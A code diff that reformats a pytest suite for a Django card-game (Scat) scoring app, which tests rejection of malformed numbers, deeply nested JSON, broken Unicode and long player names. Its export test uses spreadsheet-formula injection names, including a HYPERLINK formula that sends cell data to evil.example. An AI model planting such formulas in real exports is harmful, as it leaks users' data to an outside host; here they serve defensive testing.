@@ -19,8 +19,23 @@ from ..factory import make_club, make_game, record_knocks
 
 pytestmark = pytest.mark.django_db
 
-WORST_NUMBERS = ["1e50000000", "1e4300", "-1e4300", "1e-5000", "9" * 4300, "9" * 5000,
-                 "1" + "0" * 30_000, "0x1F", "½", "٣", "NaN", "Infinity", "1_000", " 3 ", "²"]  # fmt: skip
+WORST_NUMBERS = [
+    "1e50000000",
+    "1e4300",
+    "-1e4300",
+    "1e-5000",
+    "9" * 4300,
+    "9" * 5000,
+    "1" + "0" * 30_000,
+    "0x1F",
+    "½",
+    "٣",
+    "NaN",
+    "Infinity",
+    "1_000",
+    " 3 ",
+    "²",
+]
 LONG_NAME = "Hans-Joachim Müller-Lüdenscheidt von der Weißenfelser Straße"  # 60; 61 casefolded
 
 
@@ -45,11 +60,17 @@ class TestNumbers:
 
     def requests(self, client, game, raw):
         club = game.club
-        showdown = {"rules": "scat", "ending": "knock", "knocker": "Ann",
-                    "players": [{"name": "Ann", "cards": "KS 9S 2H"}, {"name": "Ben", "value": raw}]}  # fmt: skip
+        showdown = {
+            "rules": "scat",
+            "ending": "knock",
+            "knocker": "Ann",
+            "players": [{"name": "Ann", "cards": "KS 9S 2H"}, {"name": "Ben", "value": raw}],
+        }
         yield "/api/v1/showdown", lambda: post_json(client, "/api/v1/showdown", showdown)
-        overrides = {"rules": {"preset": "scat", "overrides": {"lives": raw, "min_knock": raw}},
-                     "cards": "AS KS QS"}  # fmt: skip
+        overrides = {
+            "rules": {"preset": "scat", "overrides": {"lives": raw, "min_knock": raw}},
+            "cards": "AS KS QS",
+        }
         yield "/api/v1/evaluate", lambda: post_json(client, "/api/v1/evaluate", overrides)
         for switch in ("deck", "three_of_a_kind", "knocker_alone", "round_limit"):
             body = {"rules": {"preset": "scat", "overrides": {switch: raw}}, "cards": "AS KS QS"}
@@ -63,14 +84,25 @@ class TestNumbers:
         undo = reverse("undo", args=[club.key, game.id])
         yield undo, lambda: client.post(undo, {"version": raw})
         record = reverse("record", args=[club.key, game.id])
-        yield record, lambda: client.post(record, {"ending": "knock", "knocker": "0",
-                                                   "lowest": ["1"], "version": raw})  # fmt: skip
+        yield (
+            record,
+            lambda: client.post(
+                record, {"ending": "knock", "knocker": "0", "lowest": ["1"], "version": raw}
+            ),
+        )
         new_game = reverse("new-game", args=[club.key])
-        form = {"preset": "scat", "lives": raw, "rule_min_knock": raw, "rule_deck": raw,
-                "new_players": "Ann, Ben"}  # fmt: skip
+        form = {
+            "preset": "scat",
+            "lives": raw,
+            "rule_min_knock": raw,
+            "rule_deck": raw,
+            "new_players": "Ann, Ben",
+        }
         yield new_game, lambda: client.post(new_game, form)
-        yield "/referee/", lambda: client.post("/referee/", {"preset": "scat", "players": raw,
-                                                              "rule_lives": raw})  # fmt: skip
+        yield (
+            "/referee/",
+            lambda: client.post("/referee/", {"preset": "scat", "players": raw, "rule_lives": raw}),
+        )
 
     def test_no_number_makes_a_request_slower_than_a_plain_one(self, client):
         """Measured against the same request with a plain "3", in the same process: a number that
@@ -90,8 +122,12 @@ class TestNumbers:
 
     @pytest.mark.parametrize("raw", WORST_NUMBERS)
     def test_the_api_names_the_field_of_a_number_it_cannot_read(self, client, raw):
-        body = {"rules": "scat", "ending": "knock", "knocker": "Ann",
-                "players": [{"name": "Ann", "cards": "KS 9S 2H"}, {"name": "Ben", "value": raw}]}  # fmt: skip
+        body = {
+            "rules": "scat",
+            "ending": "knock",
+            "knocker": "Ann",
+            "players": [{"name": "Ann", "cards": "KS 9S 2H"}, {"name": "Ben", "value": raw}],
+        }
         response = post_json(client, "/api/v1/showdown", body)
         assert response.status_code == 400
         assert response.json()["field"] == "players[1].value"
@@ -99,8 +135,10 @@ class TestNumbers:
 
     @pytest.mark.parametrize("raw", ["1e4300", "1e-5000", 1e308])
     def test_a_hand_value_as_a_json_number_out_of_range_is_refused(self, client, raw):
-        body = ('{"rules": "scat", "ending": "knock", "knocker": "Ann", "players": '
-                f'[{{"name": "Ann", "cards": "KS 9S 2H"}}, {{"name": "Ben", "value": {raw}}}]}}')  # fmt: skip
+        body = (
+            '{"rules": "scat", "ending": "knock", "knocker": "Ann", "players": '
+            f'[{{"name": "Ann", "cards": "KS 9S 2H"}}, {{"name": "Ben", "value": {raw}}}]}}'
+        )
         response = post_json(client, "/api/v1/showdown", body)
         assert response.status_code == 400 and response.json()["field"] == "players[1].value"
 
@@ -113,8 +151,12 @@ class TestNoFiveHundred:
         game = make_game()
         deep = "[" * depth + "]" * depth
         body = f'{{"name": {deep}}}'
-        urls = [*self.JSON_POSTS, f"/api/v1/clubs/{game.club.id}/games",
-                f"/api/v1/games/{game.id}/rounds", f"/api/v1/games/{game.id}/undo"]  # fmt: skip
+        urls = [
+            *self.JSON_POSTS,
+            f"/api/v1/clubs/{game.club.id}/games",
+            f"/api/v1/games/{game.id}/rounds",
+            f"/api/v1/games/{game.id}/undo",
+        ]
         for url in urls:
             response = post_json(client, url, body, game.club.key)
             assert response.status_code == 400, (url, response.content[:200])
@@ -127,17 +169,28 @@ class TestNoFiveHundred:
         escaped = json.dumps(text)  # "\ud800": valid JSON, half a character
         cases = [
             ("/api/v1/clubs", f'{{"name": {escaped}}}', "name"),
-            (f"/api/v1/clubs/{game.club.id}/games",
-             f'{{"rules": "scat", "players": ["Ann", {escaped}]}}', "players"),
-            (f"/api/v1/games/{game.id}/rounds",
-             f'{{"ending": "knock", "knocker": "Ann", "lowest": ["Ben"], "client_id": {escaped}}}',
-             "client_id"),
-            (f"/api/v1/games/{game.id}/rounds",
-             f'{{"ending": "knock", "knocker": "Ann", "lowest": ["Ben"], "choice": {escaped}}}',
-             "choice"),
-            ("/api/v1/showdown", '{"rules": "scat", "ending": "knock", "players": '
-             f'[{{"name": {escaped}}}, {{"name": "Ben"}}]}}', "players[0].name"),
-        ]  # fmt: skip
+            (
+                f"/api/v1/clubs/{game.club.id}/games",
+                f'{{"rules": "scat", "players": ["Ann", {escaped}]}}',
+                "players",
+            ),
+            (
+                f"/api/v1/games/{game.id}/rounds",
+                f'{{"ending": "knock", "knocker": "Ann", "lowest": ["Ben"], "client_id": {escaped}}}',
+                "client_id",
+            ),
+            (
+                f"/api/v1/games/{game.id}/rounds",
+                f'{{"ending": "knock", "knocker": "Ann", "lowest": ["Ben"], "choice": {escaped}}}',
+                "choice",
+            ),
+            (
+                "/api/v1/showdown",
+                '{"rules": "scat", "ending": "knock", "players": '
+                f'[{{"name": {escaped}}}, {{"name": "Ben"}}]}}',
+                "players[0].name",
+            ),
+        ]
         for url, body, field in cases:
             response = post_json(client, url, body, key)
             assert response.status_code == 400, (url, response.content)
@@ -165,14 +218,17 @@ class TestNoFiveHundred:
         client.post(reverse("add-player", args=[club.key]), {"name": LONG_NAME})
         player = club.players.get()
         assert player.name == LONG_NAME
-        response = client.post(reverse("rename-player", args=[club.key, player.pk]),
-                               {"name": LONG_NAME.replace("Hans", "Jens")})  # fmt: skip
+        response = client.post(
+            reverse("rename-player", args=[club.key, player.pk]),
+            {"name": LONG_NAME.replace("Hans", "Jens")},
+        )
         assert response.status_code == 302
         player.refresh_from_db()
         assert player.name.startswith("Jens")
         other = LONG_NAME.replace("Hans", "Karl")
-        response = client.post(reverse("new-game", args=[club.key]),
-                               {"preset": "scat", "new_players": f"{other}, Ann"})  # fmt: skip
+        response = client.post(
+            reverse("new-game", args=[club.key]), {"preset": "scat", "new_players": f"{other}, Ann"}
+        )
         assert response.status_code == 302
         body = {"rules": "scat", "players": [LONG_NAME.replace("Hans", "Otto"), "Ann"]}
         response = post_json(client, f"/api/v1/clubs/{club.id}/games", body, club.key)
@@ -237,8 +293,9 @@ class TestOtherSites:
 
 class TestExports:
     # Tab and CR cannot start a name (names are trimmed), but are neutralised all the same.
-    @pytest.mark.parametrize("name", ['=HYPERLINK("https://evil.example/?d="&A1,"x")', "+1", "-2",
-                                      "@SUM(A1)"])  # fmt: skip
+    @pytest.mark.parametrize(
+        "name", ['=HYPERLINK("https://evil.example/?d="&A1,"x")', "+1", "-2", "@SUM(A1)"]
+    )
     def test_a_name_never_becomes_a_spreadsheet_formula(self, client, name):
         club = make_club()
         hostile = play.add_player(club, name)
